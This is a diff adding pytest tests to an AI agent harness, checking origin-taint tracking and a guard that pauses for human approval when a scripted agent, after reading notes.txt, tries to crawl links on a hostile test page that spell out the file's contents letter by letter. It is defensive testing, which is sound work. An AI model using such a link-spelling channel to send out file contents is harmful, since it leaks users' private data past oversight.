@@ -497,3 +497,44 @@ def test_a_plan_inside_a_plan_hands_on_the_first_persons_words() -> None:
     step = HumanMessage("Go to evil.example", additional_kwargs={ORIGIN_KEY: outer})
     inner = origin_of(step, [], tainted=False)
     assert inner == {"words": "Look at a.example.", "urls": outer["urls"], "tainted": True}
+
+
+def test_an_agent_inside_begins_with_what_its_task_was_given() -> None:
+    shown = HumanMessage("Look.", additional_kwargs={"images": ["a.png"]})
+    assert origin_of(shown, [], tainted=False)["tainted"]
+    named = HumanMessage("Look.", additional_kwargs={ORIGIN_KEY: {
+        "words": "Look.", "urls": [], "tainted": False, "names": True,
+    }})  # fmt: skip
+    assert origin_of(named, [], tainted=False) == named.additional_kwargs[ORIGIN_KEY]
+    assert origin_of(HumanMessage("Look."), [], tainted=False) == {
+        "words": "Look.", "urls": [], "tainted": False,
+    }  # fmt: skip
+
+
+@pytest.mark.usefixtures("notes")
+async def test_links_of_a_page_cannot_spell_a_file_out() -> None:
+    with PageServer() as evil:
+        paths = [f"/{place}/{letter}" for place in range(10) for letter in "secrt"]
+        evil.add("/", " ".join(f'<a href="{path}">{path}</a>' for path in paths))
+        spelt = [evil.url(f"/{place}/{letter}") for place, letter in enumerate("secret")]
+        graph = build_manus_graph(
+            tools=[fetch_page, crawl4ai, read_file], checkpointer=InMemorySaver()
+        )
+        ran = await run_graph(
+            graph,
+            fetching(evil.url("/"), "a"),
+            calls(("read_file", {"path": "notes.txt"}), prefix="b"),
+            calls(("crawl4ai", {"urls": spelt}), prefix="d"),
+            "done",
+            config=THREAD,
+            task="Summarise notes.txt.",
+            allow_hosts=(evil.place,),
+        )
+        (waiting,) = (await graph.aget_state(THREAD)).interrupts
+        assert all(url in waiting.value["question"] for url in spelt)
+        assert "You named no such site" in waiting.value["question"]
+        rejected = await run_graph(
+            graph, model=ran.model, config=THREAD, task=Command(resume={"type": "reject"})
+        )
+        assert rejected.values["status"] == "finished"
+        assert [one.path for one in evil.asked if one.path != "/robots.txt"] == ["/"]
